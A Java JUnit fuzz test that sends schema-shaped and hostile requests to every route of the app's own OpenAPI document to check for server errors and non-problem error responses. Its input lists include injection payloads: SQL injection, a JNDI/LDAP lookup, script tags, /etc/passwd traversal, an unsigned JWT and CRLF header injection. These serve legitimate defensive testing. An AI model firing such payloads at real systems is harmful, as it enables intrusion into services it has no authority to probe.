package dev.gatehouse.platform;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.support.EndToEndTest;
import dev.gatehouse.support.Http;
import dev.gatehouse.support.RawHttp;
import dev.gatehouse.support.TestAccounts;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.BiPredicate;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Fuzzes every operation of the running app's own OpenAPI document, so a new route is covered the day it
 * is added: anonymously and with a user's and an admin's token, with values shaped by the schemas and
 * with hostile ones (NUL and other control characters, lone surrogates, overlong and invalid UTF-8, bad
 * percent-encoding, huge, negative and fractional numbers, wrong types, deep nesting, oversize strings
 * and bodies, odd content types, methods and headers). Any 5xx fails, and so does any 4xx that is not an
 * {@code application/problem+json} problem.
 *
 * <p>The requests are drawn from a seeded random: the seed is printed and is in the failure message, and
 * {@code -Dgatehouse.fuzz.seed=<seed>} replays the same requests ({@code -Dgatehouse.fuzz.rounds=<n>}
 * sends more per operation and caller). The test's callers are its own accounts, re-signed in when a
 * fuzzed request ends their session; it never uses another test's account nor an X-Forwarded-For address,
 * so it cannot lock out or rate-limit them.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ApiFuzzTest extends EndToEndTest {

    static final long SEED = Long.getLong("gatehouse.fuzz.seed", new SecureRandom().nextLong());
    static final int ROUNDS = Integer.getInteger("gatehouse.fuzz.rounds", 6);
    static final String PLACEHOLDER = "@@fuzz@@";

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private RawHttp raw;
    private TestAccounts accounts;
    private TestAccounts.Account user;
    private TestAccounts.Account admin;
    private JsonNode document;
    private Random random;

    /** Real ids for path parameters of these names, so fuzzed requests also reach past the 404. */
    private final Map<String, String> known = new LinkedHashMap<>();

    @BeforeAll
    void callersAndDocument() {
        client();
        raw = new RawHttp(port);
        accounts = new TestAccounts(http, SMTP);
        user = accounts.create("fuzz-user");
        admin = newAdmin();
        Http.Response doc = http.get("/api/v1/openapi.json").send();
        assertThat(doc.status()).isEqualTo(200);
        document = Http.JSON.readTree(doc.body());
        random = new Random(SEED);
        String userId = http.get("/api/v1/me")
                .bearer(user.accessToken())
                .send()
                .json()
                .get("id")
                .asString();
        Http.Response org = http.post("/api/v1/orgs")
                .bearer(user.accessToken())
                .json("name", "Fuzz org")
                .send();
        assertThat(org.status()).as(org.toString()).isEqualTo(201);
        known.put("org", org.json().get("id").asString());
        known.put("user", userId);
        known.put("id", userId);
        System.out.println("ApiFuzzTest seed=" + SEED + " (replay with -Dgatehouse.fuzz.seed=" + SEED + ")");
    }

    private TestAccounts.Account newAdmin() {
        TestAccounts.Account candidate = accounts.create("fuzz-admin");
        String id = http.get("/api/v1/me")
                .bearer(candidate.accessToken())
                .send()
                .json()
                .get("id")
                .asString();
        Http.Response promoted = http.put("/api/v1/admin/users/" + id + "/roles")
                .bearer(accounts.admin().accessToken())
                .json("roles", List.of("user", "admin"))
                .send();
        assertThat(promoted.status()).as(promoted.toString()).isEqualTo(200);
        return accounts.login(candidate.email(), TestAccounts.PASSWORD);
    }

    /** A fuzzed request may end its caller's session (sign-out everywhere, five wrong step-ups): sign in again. */
    private TestAccounts.Account revived(TestAccounts.Account account, boolean isAdmin) {
        if (http.get("/api/v1/me").bearer(account.accessToken()).send().status() == 200) return account;
        try {
            return accounts.login(account.email(), TestAccounts.PASSWORD);
        } catch (AssertionError locked) {
            return isAdmin ? newAdmin() : accounts.create("fuzz-user");
        }
    }

    record Operation(
            String method,
            String path,
            List<JsonNode> parameters,
            @Nullable JsonNode body) {
        @Override
        public String toString() {
            return method + " " + path;
        }
    }

    @Test
    void noOperationAnswersAServerErrorOrAnErrorThatIsNotAProblem() {
        List<Operation> operations = operations();
        assertThat(operations).as("operations in the OpenAPI document").hasSizeGreaterThan(40);
        List<String> failures = new ArrayList<>();
        int sent = 0;
        Instant started = Instant.now();
        for (Operation operation : operations) {
            for (String caller : List.of("anonymous", "user", "admin")) {
                for (int round = 0; round < ROUNDS; round++) {
                    String token = switch (caller) {
                        case "user" -> user.accessToken();
                        case "admin" -> admin.accessToken();
                        default -> null;
                    };
                    Draft draft = draft(operation, token);
                    if (round > 0) mutate(draft, operation);
                    RawHttp.Response response = draft.send(raw);
                    sent++;
                    String verdict = verdict(response);
                    if (verdict != null)
                        failures.add(verdict + ": " + caller + " " + draft + "\n    → " + cut(response));
                }
            }
            user = revived(user, false);
            admin = revived(admin, true);
        }
        Duration took = Duration.between(started, Instant.now());
        System.out.println("ApiFuzzTest seed=" + SEED + ": " + sent + " requests to " + operations.size()
                + " operations in " + took.toMillis() + " ms, " + failures.size() + " failures");
        assertThat(failures)
                .as(
                        "seed %d (replay with -Dgatehouse.fuzz.seed=%d): %d of %d requests failed; the first:%n%s",
                        SEED,
                        SEED,
                        failures.size(),
                        sent,
                        String.join("\n", failures.subList(0, Math.min(15, failures.size()))))
                .isEmpty();
    }

    static @Nullable String verdict(RawHttp.Response response) {
        if (response.status() >= 500) return "server error " + response.status();
        if (response.status() >= 400) {
            String type = response.header("Content-Type");
            if (type == null || !type.startsWith("application/problem+json")) {
                return response.status() + " that is not application/problem+json";
            }
        }
        return null;
    }

    private static String cut(RawHttp.Response response) {
        String text = response.toString();
        return text.length() > 400 ? text.substring(0, 400) + "…" : text;
    }

    // ---- the document ----------------------------------------------------------------------------------

    private List<Operation> operations() {
        List<Operation> operations = new ArrayList<>();
        document.get("paths").properties().forEach(path -> {
            for (String method : List.of("get", "put", "post", "delete", "patch")) {
                JsonNode spec = path.getValue().get(method);
                if (spec == null) continue;
                List<JsonNode> parameters = new ArrayList<>();
                if (spec.has("parameters")) spec.get("parameters").forEach(parameters::add);
                JsonNode body = null;
                JsonNode content = spec.path("requestBody").path("content");
                if (content.isObject() && !content.isEmpty()) {
                    body = content.values().iterator().next().path("schema");
                }
                operations.add(new Operation(method.toUpperCase(Locale.ROOT), path.getKey(), parameters, body));
            }
        });
        return operations;
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode at = schema;
        for (int hops = 0; at.has("$ref") && hops < 10; hops++) {
            String ref = at.get("$ref").asString();
            at = document.at(ref.substring(1));
        }
        if (at.has("allOf")) return resolve(at.get("allOf").get(0));
        if (at.has("oneOf")) return resolve(at.get("oneOf").get(0));
        if (at.has("anyOf")) return resolve(at.get("anyOf").get(0));
        return at;
    }

    private static String typeOf(JsonNode schema) {
        JsonNode type = schema.get("type");
        if (type == null) return schema.has("properties") ? "object" : "";
        if (type.isArray()) {
            for (JsonNode t : type) if (!"null".equals(t.asString())) return t.asString();
            return "null";
        }
        return type.asString();
    }

    /**
     * The wire's name of a property: the document may still name properties as Java does (camelCase)
     * while bodies are read in snake_case.
     */
    private static String wireName(String name) {
        return ProblemHandler.snake(name);
    }

    /** A value the schema allows, as far as it can be read (enums, formats, bounds, simple patterns). */
    private JsonNode valid(JsonNode schemaOrRef, String name, int depth) {
        JsonNode schema = resolve(schemaOrRef);
        if (schema.has("enum"))
            return schema.get("enum").get(random.nextInt(schema.get("enum").size()));
        switch (typeOf(schema)) {
            case "integer" -> {
                long min = schema.has("minimum") ? schema.get("minimum").asLong() : 0;
                long max = schema.has("maximum") ? schema.get("maximum").asLong() : 1000;
                return NODES.numberNode(min + (long) (random.nextDouble() * (max - min)));
            }
            case "number" -> {
                return NODES.numberNode(Math.round(random.nextDouble() * 100_000) / 100.0);
            }
            case "boolean" -> {
                return NODES.booleanNode(random.nextBoolean());
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                int max = schema.has("maxItems")
                        ? Math.min(3, schema.get("maxItems").asInt())
                        : 3;
                int count = random.nextInt(max + 1);
                for (int i = 0; i < count && depth < 5; i++) {
                    array.add(valid(schema.path("items"), name, depth + 1));
                }
                return array;
            }
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                List<String> required = new ArrayList<>();
                schema.path("required").forEach(r -> required.add(r.asString()));
                schema.path("properties").properties().forEach(property -> {
                    if (depth < 5 && (required.contains(property.getKey()) || random.nextBoolean())) {
                        object.set(
                                wireName(property.getKey()), valid(property.getValue(), property.getKey(), depth + 1));
                    }
                });
                return object;
            }
            case "string" -> {
                return NODES.stringNode(validString(schema, name));
            }
            default -> {
                return NODES.objectNode();
            }
        }
    }

    private String validString(JsonNode schema, String name) {
        String format = schema.path("format").asString("");
        String pattern = schema.path("pattern").asString("");
        if (format.equals("uuid")) return UUID.randomUUID().toString();
        if (format.equals("date-time"))
            return Instant.now().plus(Duration.ofDays(1 + random.nextInt(300))).toString();
        if (format.equals("email") || name.toLowerCase(Locale.ROOT).contains("email")) {
            return "fuzz-" + hex(4) + "@fuzz.example";
        }
        if (pattern.contains("[0-9]{6}")) return String.format("%06d", random.nextInt(1_000_000));
        if (pattern.matches("\\^?[a-z_]+(\\|[a-z_]+)+\\$?")) {
            String[] choices = pattern.replace("^", "").replace("$", "").split("\\|");
            return choices[random.nextInt(choices.length)];
        }
        if (pattern.startsWith("[a-z]")) return "read:fuzz";
        int min = Math.max(1, schema.path("minLength").asInt(1));
        int max = Math.max(min, Math.min(schema.path("maxLength").asInt(24), 24));
        StringBuilder s = new StringBuilder("fz");
        int length = min + random.nextInt(max - min + 1);
        while (s.length() < length) s.append((char) ('a' + random.nextInt(26)));
        return s.toString();
    }

    private String hex(int bytes) {
        byte[] b = new byte[bytes];
        random.nextBytes(b);
        return HexFormat.of().formatHex(b);
    }

    // ---- requests ----------------------------------------------------------------------------------------

    /** A request under construction: everything raw, so that any byte can be placed anywhere. */
    final class Draft {
        String method;
        final String path;
        final Map<String, String> pathValues = new LinkedHashMap<>();
        final List<String[]> query = new ArrayList<>();
        final Map<String, String> headers = new LinkedHashMap<>();

        @Nullable
        JsonNode body;

        byte @Nullable [] fragment;
        byte @Nullable [] rawBody;
        String mutation = "as the schema says";

        Draft(String method, String path) {
            this.method = method;
            this.path = path;
        }

        String target() {
            String target = path;
            for (Map.Entry<String, String> p : pathValues.entrySet()) {
                target = target.replace("{" + p.getKey() + "}", p.getValue());
            }
            if (!query.isEmpty()) {
                StringBuilder q = new StringBuilder();
                for (String[] pair : query) {
                    if (!q.isEmpty()) q.append('&');
                    q.append(pair[0]).append('=').append(pair[1]);
                }
                target += "?" + q;
            }
            return target;
        }

        byte @Nullable [] bodyBytes() {
            if (rawBody != null) return rawBody;
            if (body == null) return null;
            byte[] json = Http.JSON.writeValueAsString(body).getBytes(StandardCharsets.UTF_8);
            if (fragment == null) return json;
            return splice(json, ("\"" + PLACEHOLDER + "\"").getBytes(StandardCharsets.UTF_8), fragment);
        }

        RawHttp.Response send(RawHttp client) {
            return client.send(method, target(), headers, bodyBytes());
        }

        @Override
        public String toString() {
            byte[] bytes = bodyBytes();
            String shownBody =
                    bytes == null ? "" : new String(bytes, 0, Math.min(200, bytes.length), StandardCharsets.ISO_8859_1);
            String shownTarget = target().length() > 200 ? target().substring(0, 200) + "…" : target();
            return "[" + mutation + "] " + method + " " + shownTarget + " " + headers.keySet() + " " + escape(shownBody)
                    + (bytes != null && bytes.length > 200 ? "… (" + bytes.length + " bytes)" : "");
        }
    }

    private static String escape(String s) {
        StringBuilder out = new StringBuilder();
        for (char c : s.toCharArray()) {
            out.append(c < 0x20 || c >= 0x7F ? String.format("\\x%02x", (int) c) : String.valueOf(c));
        }
        return out.toString();
    }

    private static byte[] splice(byte[] haystack, byte[] needle, byte[] replacement) {
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            boolean found = true;
            for (int j = 0; j < needle.length && found; j++) found = haystack[i + j] == needle[j];
            if (found) {
                byte[] out = new byte[haystack.length - needle.length + replacement.length];
                System.arraycopy(haystack, 0, out, 0, i);
                System.arraycopy(replacement, 0, out, i, replacement.length);
                System.arraycopy(
                        haystack, i + needle.length, out, i + replacement.length, haystack.length - i - needle.length);
                return out;
            }
        }
        return haystack;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The request the document describes, with valid-looking values. */
    private Draft draft(Operation operation, @Nullable String token) {
        Draft draft = new Draft(operation.method(), operation.path());
        if (token != null) draft.headers.put("Authorization", "Bearer " + token);
        for (JsonNode parameter : operation.parameters()) {
            String in = parameter.path("in").asString();
            String name = parameter.path("name").asString();
            JsonNode value = valid(parameter.path("schema"), name, 0);
            String text = value.isString() ? value.asString() : value.toString();
            if (in.equals("path")) {
                draft.pathValues.put(
                        name, encode(known.containsKey(name) && random.nextBoolean() ? known.get(name) : text));
            }
            if (in.equals("query") && (parameter.path("required").asBoolean() || random.nextBoolean())) {
                draft.query.add(new String[] {encode(name), encode(text)});
            }
        }
        if (operation.body() != null) {
            draft.body = valid(operation.body(), "body", 0);
            draft.headers.put("Content-Type", "application/json");
        }
        return draft;
    }

    /** Applies one hostile change, drawn by weight; a change that does not fit the operation draws again. */
    private void mutate(Draft draft, Operation operation) {
        List<Map.Entry<Integer, BiPredicate<Draft, Operation>>> mutations = List.of(
                Map.entry(4, this::hostileBodyValue),
                Map.entry(2, this::hostileQuery),
                Map.entry(2, this::hostilePath),
                Map.entry(2, this::brokenBody),
                Map.entry(1, this::oddContentType),
                Map.entry(1, this::oddHeader),
                Map.entry(1, this::otherMethod));
        int total = mutations.stream().mapToInt(Map.Entry::getKey).sum();
        for (int attempt = 0; attempt < 10; attempt++) {
            int pick = random.nextInt(total);
            for (Map.Entry<Integer, BiPredicate<Draft, Operation>> m : mutations) {
                pick -= m.getKey();
                if (pick < 0) {
                    if (m.getValue().test(draft, operation)) return;
                    break;
                }
            }
        }
        hostileQuery(draft, operation);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Raw JSON values, each char one byte: JSON escapes spelled out, invalid UTF-8 as bytes. */
    static final List<String> JSON_VALUES = List.of(
            "\"a\\u0000b\"",
            "\"\\u0000\"",
            "\"\\u0001\\u0002\"",
            "\"tab\\tnew\\nline\\u001b[31m\"",
            "\"\\u007f\"",
            "\"\\u0085\"",
            "\"\\ud800\"",
            "\"x\\udc00y\"",
            "\"\\ud83d\\ude00\"",
            "\"\\u202e\\u200b\\ufeff\"",
            "\"\\uffff\\ufffe\"",
            "\"\u00ff\u00fe\"",
            "\"\u00c0\u0080\"",
            "\"\u00c1\u0081\"",
            "\"\u00ed\u00a0\u0080\"",
            "\"\u00e2\u0082\"",
            "\"\u00f8\u0088\u0080\u0080\u0080\"",
            "\"a\u0001b\"",
            "\"' OR '1'='1\"",
            "\"${jndi:ldap://fuzz.invalid/a}\"",
            "\"<script>alert(1)</script>\"",
            "\"../../../../etc/passwd\"",
            "\"%00%ZZ\"",
            "\"\"",
            "\"   \"",
            "\"" + "x".repeat(70_000) + "\"",
            "1e400",
            "-1e400",
            "99999999999999999999999999",
            "-9223372036854775809",
            "-1",
            "0",
            "2147483648",
            "3.5",
            "-0.0",
            "1".repeat(1_200),
            "NaN",
            "Infinity",
            "0x10",
            "true",
            "null",
            "[]",
            "{}",
            "[1,\"a\",null]",
            "{\"a\":{\"b\":[]}}",
            "[".repeat(3_000) + "]".repeat(3_000),
            "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000));

    /** Replaces one value anywhere in the body (or adds a field to an empty object) with a hostile one. */
    private boolean hostileBodyValue(Draft draft, Operation operation) {
        if (!(draft.body instanceof ObjectNode root)) return false;
        List<ObjectNode> objects = new ArrayList<>();
        collectObjects(root, objects);
        ObjectNode target = pick(objects);
        List<String> fields = new ArrayList<>(target.propertyNames());
        String field = fields.isEmpty() || random.nextInt(8) == 0 ? "fuzz_" + hex(2) : pick(fields);
        target.put(field, PLACEHOLDER);
        String value = pick(JSON_VALUES);
        draft.fragment = value.getBytes(StandardCharsets.ISO_8859_1);
        draft.mutation = "body field " + field + " = " + shorten(value);
        return true;
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> into) {
        if (node instanceof ObjectNode object) into.add(object);
        for (Iterator<JsonNode> it = node.values().iterator(); it.hasNext(); ) collectObjects(it.next(), into);
    }

    private static String shorten(String value) {
        return escape(value.length() > 40 ? value.substring(0, 40) + "…(" + value.length() + ")" : value);
    }

    /** Raw query values, some well-encoded and hostile once decoded, some not valid encodings at all. */
    static final List<String> QUERY_VALUES = List.of(
            "%00",
            "a%00b",
            "%01",
            "%7F",
            "%C2%85",
            "%ED%A0%80",
            "%C0%80",
            "%FF",
            "%ZZ",
            "%",
            "%4",
            "-1",
            "0",
            "99999999999999999999",
            "2147483648",
            "1e3",
            "abc",
            "",
            "+",
            "x".repeat(6_000),
            "%E2%80%AE",
            "'%20OR%201=1",
            "..%2F..",
            "%F0%9F%98%80",
            "2026-13-45",
            "00000000-0000-0000-0000-000000000000",
            "%0D%0ASet-Cookie:%20a=b");

    private boolean hostileQuery(Draft draft, Operation operation) {
        List<String> declared = operation.parameters().stream()
                .filter(p -> p.path("in").asString().equals("query"))
                .map(p -> p.path("name").asString())
                .toList();
        String value = pick(QUERY_VALUES);
        int shape = random.nextInt(10);
        if (shape == 0) {
            // More parameters than the container takes.
            for (int i = 0; i < 1_001; i++) draft.query.add(new String[] {"p" + i, "1"});
            draft.mutation = "1001 query parameters";
        } else if (shape == 1) {
            String name = pick(List.of("%00", "%ZZ", "a%C0%80", "%01x"));
            draft.query.add(new String[] {name, "1"});
            draft.mutation = "query name " + name;
        } else {
            String name = declared.isEmpty() || shape == 2 ? "fuzz" : pick(declared);
            draft.query.removeIf(pair -> pair[0].equals(name));
            draft.query.add(new String[] {name, value});
            draft.mutation = "query " + name + " = " + shorten(value);
        }
        return true;
    }

    /** Raw path segments: bad encodings, encoded separators and controls, wrong shapes. */
    static final List<String> PATH_VALUES = List.of(
            "%00",
            "%ZZ",
            "%C0%80",
            "%FF",
            "%2F",
            "%5C",
            "..",
            ".",
            "%2e%2e",
            "%20",
            "x".repeat(3_000),
            "-1",
            "99999999999999999999",
            "00000000-0000-0000-0000-000000000000",
            "not-a-uuid",
            "%E2%80%AE",
            "a;b=c",
            "%3B",
            "{x}",
            "\u00e9",
            "%25",
            "%0A",
            "%0D%0A",
            "ip:%00",
            "email:a%00b");

    private boolean hostilePath(Draft draft, Operation operation) {
        if (draft.pathValues.isEmpty()) return false;
        String name = pick(new ArrayList<>(draft.pathValues.keySet()));
        String value = pick(PATH_VALUES);
        draft.pathValues.put(name, value);
        draft.mutation = "path {" + name + "} = " + shorten(value);
        return true;
    }

    /** Raw bodies sent as JSON: not JSON, not UTF-8, too deep, too long, too many digits. */
    static final List<String> BODIES = List.of(
            "",
            "{",
            "}",
            "null",
            "[]",
            "\"str\"",
            "123",
            "{\"a\":1}{",
            "{\"a\":1,}",
            "{'a':1}",
            "{\"a\":1,\"a\":2}",
            "\u00ef\u00bb\u00bf{}",
            "\u00ff\u00fe{\u0000}",
            "{\"email\":\"\u00c0\u0080\"}",
            "{\"a\u0000\":1}",
            "{\"\\u0000\":1}",
            "[".repeat(5_000) + "]".repeat(5_000),
            "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000),
            "1".repeat(5_000),
            "{\"a\":" + "9".repeat(5_000) + "}",
            "{\"a\":\"" + "x".repeat(1_200_000) + "\"}");

    private boolean brokenBody(Draft draft, Operation operation) {
        String body = pick(BODIES);
        draft.rawBody = body.getBytes(StandardCharsets.ISO_8859_1);
        draft.headers.put("Content-Type", "application/json");
        draft.mutation = "body " + shorten(body);
        return true;
    }

    static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=fuzz",
            "multipart/form-data",
            "application/json; charset=utf-16",
            "application/json; charset=bogus-charset",
            "application/json;;;",
            "application/json; boundary=\"",
            "*/*",
            "application/*",
            "",
            "application/merge-patch+json",
            "application/problem+json");

    private boolean oddContentType(Draft draft, Operation operation) {
        String type = pick(CONTENT_TYPES);
        draft.headers.put("Content-Type", type);
        String body = switch (random.nextInt(4)) {
            case 0 -> "a=%ZZ&b=%00&c=%C0%80";
            case 1 -> "a=b&c=d";
            case 2 -> "--fuzz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\u0000\r\n--fuzz";
            default -> null;
        };
        if (body != null) draft.rawBody = body.getBytes(StandardCharsets.ISO_8859_1);
        draft.mutation = "content type '" + type + "'" + (body == null ? "" : " with body " + shorten(body));
        return true;
    }

    private boolean oddHeader(Draft draft, Operation operation) {
        Map.Entry<String, String> header = pick(List.of(
                Map.entry("Accept", "text/html"),
                Map.entry("Accept", "application/xml"),
                Map.entry("Accept", ";;;"),
                Map.entry("Accept", "*/*;q=abc"),
                Map.entry("Authorization", "Bearer"),
                Map.entry("Authorization", "Bearer "),
                Map.entry("Authorization", "Bearer " + "x".repeat(7_000)),
                Map.entry("Authorization", "Basic YTpi"),
                Map.entry("Authorization", "Bearer a.b.c"),
                Map.entry("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."),
                Map.entry("Authorization", "Bearer gh_sk_fuzz"),
                Map.entry("Authorization", "Bearer \u00ff\u00fe"),
                Map.entry("Idempotency-Key", ""),
                Map.entry("Idempotency-Key", "x".repeat(300)),
                Map.entry("Idempotency-Key", "fuzz-" + UUID.randomUUID()),
                Map.entry("X-Request-Id", "<script>"),
                Map.entry("X-Fuzz", "a\u0001b"),
                Map.entry("Content-Type", "application/json\u0000")));
        draft.headers.put(header.getKey(), header.getValue());
        draft.mutation = "header " + header.getKey() + ": " + shorten(header.getValue());
        return true;
    }

    private boolean otherMethod(Draft draft, Operation operation) {
        String method = pick(List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "HEAD", "PROPFIND"));
        draft.method = method;
        draft.mutation = "method " + method;
        return true;
    }
}
